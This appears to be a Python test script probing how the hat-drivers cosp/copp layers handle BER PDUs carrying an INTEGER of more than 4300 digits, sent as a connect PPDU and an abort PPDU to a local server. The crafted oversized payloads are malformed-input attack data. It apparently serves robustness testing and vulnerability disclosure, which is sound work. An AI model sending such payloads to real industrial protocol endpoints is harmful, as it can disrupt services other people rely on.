"""Connection-level effect of INTEGERs of more than 4300 digits in PPDUs/APDUs:
CP with huge mode-value from a raw cosp peer; ARP with a huge provider-reason."""
import asyncio, logging, sys
sys.path.insert(0, 'scratch')
import attack_layers as A
from hat.drivers import ber, tcp, cosp, copp, acse
big = b'\x82\x08\x00' + b'\x7f' * 2048
mv = b'\x80' + big
ms = b'\xa0' + ber.encode_length(len(mv)) + mv
CP = b'\x31' + ber.encode_length(len(ms)) + ms

async def main():
    loop = asyncio.get_running_loop()
    loop.set_exception_handler(lambda l, ctx: A.loop_errors.append(ctx))
    A.rec.records.clear()
    q = asyncio.Queue()
    srv = await copp.listen(lambda *a: None, q.put_nowait, tcp.Address('127.0.0.1', 0))
    try:
        c = await cosp.connect(tcp.Address('127.0.0.1', srv.addresses[0].port), user_data=CP)
        print('cosp connected?!'); await c.async_close()
    except ConnectionError as e:
        print('connect refused/closed:', type(e).__name__, str(e)[:120])
    await asyncio.sleep(0.2)
    print('records CP:', [(r.levelname, r.name, r.getMessage()[:150], bool(r.exc_info)) for r in A.rec.records if r.levelno >= logging.WARNING])
    await srv.async_close()
    # ARP
    A.rec.records.clear()
    srv, c, s = await A.layer_pair('copp')
    src = b'\x80' + big
    arp = b'\x30' + ber.encode_length(len(src)) + src
    c._conn.abort(arp)
    r = await A.expect_closed_read(s, 3)
    await asyncio.sleep(0.2)
    print('ARP read raises', r, 'records:', [(r_.levelname, r_.name, r_.getMessage()[:150], bool(r_.exc_info)) for r_ in A.rec.records if r_.levelno >= logging.WARNING])
    for x in (c, s, srv):
        await x.async_close()
    print('loop errors', A.loop_errors)
asyncio.run(main())
